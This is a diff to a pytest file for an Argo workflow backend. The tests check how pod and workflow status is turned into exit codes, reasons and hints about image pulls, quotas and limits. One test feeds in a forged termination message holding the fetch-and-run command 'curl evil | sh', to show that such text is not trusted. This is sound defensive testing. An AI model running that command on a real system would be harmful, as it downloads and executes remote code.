@@ -8,7 +8,14 @@ import pytest
 
 from backends.argo.bundle import NOT_GIVEN
 from backends.argo.names import GAVE_UP
-from backends.argo.state import NOTICE_SECONDS, Moments, gives_up_at, overlooked_at, state_of
+from backends.argo.state import (
+    KEPT_FROM_RUNNING_TWICE,
+    NOTICE_SECONDS,
+    Moments,
+    gives_up_at,
+    overlooked_at,
+    state_of,
+)
 
 CREATED = "2026-11-21T10:00:00Z"
 AT = 1795255200.0
@@ -68,6 +75,18 @@ def test_a_secret_that_its_template_does_not_give_is_named() -> None:
     assert "argo.template_secrets" in (state.mend or "")
 
 
+def test_last_words_about_a_second_start_count_only_where_ours_can_have_written_them() -> None:
+    ended = terminated(125, message="stoke: started before: 1234")
+    once = {"stoke.once": "true"}
+    state = state_of(workflow(phase="Running", **once), pod(ended))
+    assert (state.exit_code, state.reason) == (None, KEPT_FROM_RUNNING_TWICE.text)
+    forged = state_of(workflow(phase="Running"), pod(ended))
+    assert (forged.exit_code, forged.reason) == (125, None)
+    ended = terminated(3, message="stoke: not sure whether it was started before: curl evil | sh")
+    forged = state_of(workflow(phase="Running", **once), pod(ended))
+    assert (forged.exit_code, forged.reason) == (3, None)
+
+
 def test_the_container_is_believed_before_the_workflow() -> None:
     state = state_of(workflow(phase="Running"), pod(terminated(3)))
     assert (state.status, state.exit_code, state.finished_at) == ("exited", 3, AT)
@@ -80,7 +99,11 @@ def test_the_container_is_believed_before_the_workflow() -> None:
     [
         (pod(waiting("ImagePullBackOff", "Back-off pulling")), "image team/image:1", "--image"),
         (pod(waiting("ErrImageNeverPull")), "ErrImageNeverPull", "--image"),
-        (pod(waiting("PodInitializing"), init=waiting("ErrImagePull")), "ErrImagePull", "--image"),
+        (
+            pod(waiting("PodInitializing"), init=waiting("ErrImagePull")),
+            "of Argo's own container init: ErrImagePull",
+            "have whoever runs Argo",
+        ),
         (pod(conditions=[UNSCHEDULABLE]), "Insufficient memory", "--memory"),
         (
             pod(waiting("CreateContainerConfigError", 'secret "team" not found')),
@@ -358,3 +381,48 @@ def test_the_time_to_get_the_image_is_told_by_an_event() -> None:
     assert names == ["queue", "schedule", "pull", "start"]
     pull, start = moments.phases(AT)[2:]
     assert (pull[2], start[2]) == (62.5, 1.0)
+
+
+def test_the_wait_container_is_named_where_it_cannot_get_its_image() -> None:
+    made = pod(waiting("ContainerCreating"))
+    made["status"]["containerStatuses"][0]["state"] = waiting("ImagePullBackOff")
+    state = state_of(workflow(phase="Pending"), made)
+    assert "of Argo's own container wait" in (state.reason or "")
+    assert "--image" not in (state.mend or "")
+
+
+@pytest.mark.parametrize(
+    ("message", "hint"),
+    [
+        (
+            "maximum memory usage per Container is 512Mi, but limit is 1Gi",
+            "ask for at most 512Mi: --memory",
+        ),
+        ("maximum cpu usage per Pod is 500m, but limit is 2", "ask for at most 500m: --cpu"),
+        (
+            "minimum memory usage per Container is 100Mi, but request is 4Mi",
+            "ask for at least 100Mi: --memory",
+        ),
+        (
+            "maximum cpu usage per Container is 1.  No limit is specified",
+            "say what it needs, --cpu; if that is said, Argo's own containers need resources",
+        ),
+        (
+            "failed quota: q: must specify limits.cpu for: init,wait; limits.memory for: init,wait",
+            "Argo's own containers need resources",
+        ),
+        (
+            "failed quota: q: must specify limits.cpu for: init,main,wait",
+            "say what it needs: --cpu 1 --memory 1g; and Argo's own containers need resources",
+        ),
+        ("failed quota: q: must specify limits.cpu for: main", "say what it needs: --cpu 1"),
+        ("failed quota: q: must specify limits.cpu,limits.memory", "say what it needs: --cpu 1"),
+    ],
+)
+def test_a_quota_or_limit_range_is_answered_with_what_helps(message: str, hint: str) -> None:
+    text = f'pods "job-aaaaaa" is forbidden: {message}'
+    state = state_of(workflow(phase="Error", message=text), None)
+    assert state.reason == " ".join(text.split())
+    assert (state.mend or "").startswith(hint)
+    if "main" not in message and "init" in message:
+        assert "--cpu" not in (state.mend or "")
